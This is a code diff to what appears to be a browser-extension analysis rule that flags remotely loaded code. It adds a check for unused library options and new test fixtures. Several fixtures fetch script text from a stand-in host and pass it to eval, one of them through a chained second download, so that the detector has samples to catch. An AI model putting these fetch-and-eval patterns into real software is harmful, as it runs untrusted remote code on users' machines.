@@ -7,7 +7,7 @@ import { backgroundExample, checkScripts, contentExample, type Judged } from './
 import { codeRunsOf, type CodeRun, type RunKind } from './codeRuns.ts';
 import { isMostlyOwn } from './isMostlyOwn.ts';
 import { isAnswer } from './isAnswer.ts';
-import { isHeldServerText, isToldOfServer, isFromKnownServer, isFromServer } from './network.ts';
+import { isFromKnownServer, isFromServer, isFromUnusedOption, isHeldServerText, isToldOfServer } from './network.ts';
 import { originPaths, originsOf } from './origins.ts';
 
 /** The ways that certainly run what they are given. */
@@ -43,6 +43,8 @@ export const remoteCode = defineRule({
       if (run.kind === 'markup' && !isFromKnownServer(facts, script, run.code)) continue;
       if (run.kind === 'unsure' && !isPlainData(script, run.code) && !isResult(script, run.code)) continue;
       const certain = CERTAIN.has(run.kind);
+      // A library's feature that is not used here.
+      if (isFromUnusedOption(facts, script, run.code)) continue;
       if (script.stats.values > LIBRARY && !isFromKnownServer(facts, script, run.code)) {
         yield hit(run.value, {
           severity: 'high',
@@ -69,6 +71,19 @@ export const remoteCode = defineRule({
   }),
   examples: {
     bad: [
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 2, "name": "Example", "version": "1.0", "browser_action": {"default_popup": "p.html"}}',
+          'p.html': '<p id="t"></p><script src="lib/edit.js"></script><script src="p.js"></script>',
+          'lib/edit.js':
+            '$.fn.edit = function (options) { const settings = $.extend({}, { width: 10 }, options); if (settings.loadurl) $.ajax({ url: settings.loadurl, success: (text) => { eval("var json = " + text); show(json); } }); };',
+          'p.js': '$("#t").edit({ loadurl: "https://x.example/t" });',
+        },
+      },
+      backgroundExample(
+        'fetch("https://x.example/c").then((r) => r.json()).then((c) => fetch(c.nextpart)).then((r) => r.text()).then(eval);',
+      ),
       backgroundExample('fetch("https://x.example/a.js").then((r) => r.text()).then(eval);'),
       backgroundExample('fetch("https://x.example/a").then((r) => r.text()).then((t) => { eval(t); });'),
       backgroundExample(
@@ -135,6 +150,16 @@ export const remoteCode = defineRule({
       ),
     ],
     good: [
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 2, "name": "Example", "version": "1.0", "browser_action": {"default_popup": "p.html"}}',
+          'p.html': '<p id="t"></p><script src="lib/edit.js"></script><script src="p.js"></script>',
+          'lib/edit.js':
+            '$.fn.edit = function (options) { const settings = $.extend({}, { width: 10 }, options); if (settings.loadurl) $.ajax({ url: settings.loadurl, success: (text) => { eval("var json = " + text); show(json); } }); };',
+          'p.js': '$("#t").edit({ width: 20 });',
+        },
+      },
       contentExample(
         'const run = (data) => { const s = document.createElement("script"); s.textContent = "start([" + new Uint8Array(data).toString() + "])"; document.body.append(s); }; fetch("https://api.example.com/p").then((r) => r.arrayBuffer()).then(run);',
       ),
